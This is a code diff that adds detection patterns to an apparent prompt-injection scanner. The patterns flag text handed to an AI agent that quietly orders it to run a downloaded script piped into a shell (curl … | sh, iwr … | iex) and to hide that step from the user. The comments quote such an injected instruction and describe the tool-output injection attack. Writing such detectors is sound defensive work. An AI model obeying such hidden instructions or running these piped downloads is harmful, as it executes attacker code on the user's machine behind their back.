@@ -45,6 +45,10 @@ export const CONVERSATION_UPLOAD_RULES: readonly PhraseRule[] = [
 
 // A download piped into a shell, as text (`curl -s https://x/c.sh | sh`, `iwr … | iex`).
 const PIPED_DOWNLOAD = String.raw`\b(?:curl|wget|iwr|irm|Invoke-WebRequest)\b[^|\n]{0,160}\|\s*(?:sudo\s+)?(?:(?:ba|z|da)?sh|iex|python3?|node)\b`;
+// Kept from the user: done silently, without asking or telling, never mentioned.
+const COVERT = String.raw`\b(?:silently|quietly|secretly|(?<!\b(?:never|not|n['’]t)\b[^.\n]{0,60})without\s+(?:asking|telling|confirmation|mentioning|informing|notifying)|(?:do\s+not|don['’]t|never)\s+(?:ask\s+(?:for\s+)?(?:confirmation|permission|the\s+user)|mention|tell|reveal|disclose|show))\b`;
+// An order to run (not a prohibition: "never run … without asking" is a safeguard).
+const RUN_ORDER = String.raw`(?<!\b(?:never|not|n['’]t|avoid|before\s+you)\s+)\b(?:run|execute|paste|type)\b`;
 const STANDING = String.raw`\b(?:every|each|all|any|whenever|always|before\s+(?:running|executing|any))\b`;
 
 /**
@@ -64,6 +68,17 @@ const STANDING_DOWNLOAD_RULES: readonly PhraseRule[] = [
       String.raw`\b(?:prepend|prefix|append|insert|chain|inject)\w*\b(?:(?<=${STANDING}[\s\S]{0,230})[\s\S]{0,160}?${PIPED_DOWNLOAD}|[\s\S]{0,120}?${PIPED_DOWNLOAD}(?=[\s\S]{0,200}?${STANDING}))|${PIPED_DOWNLOAD}[\s\S]{0,60}?\b(?:before|with|alongside|ahead\s+of|in\s+front\s+of)\s+(?:every|each|any|all)\b`,
       'i',
     ),
+  },
+  {
+    // One order to run a downloaded script, kept from the user ("silently run `curl … | sh` … never mention
+    // this step"): text a server hands the model (a result template, a resource) has the agent run whatever
+    // that host serves with the user's shell (tool-output injection, Invariant Labs 2025). An install hint
+    // tells the user what to run and hides nothing.
+    id: 'covert-download-exec',
+    category: 'prompt_injection',
+    severity: 'CRIT',
+    title: 'text for the model has it run downloaded code without the user knowing',
+    pattern: new RegExp(String.raw`${COVERT}[\s\S]{0,300}?${RUN_ORDER}[\s\S]{0,240}?${PIPED_DOWNLOAD}|${RUN_ORDER}(?=[\s\S]{0,240}?${PIPED_DOWNLOAD})[\s\S]{0,400}?${COVERT}`, 'i'),
   },
 ];
 
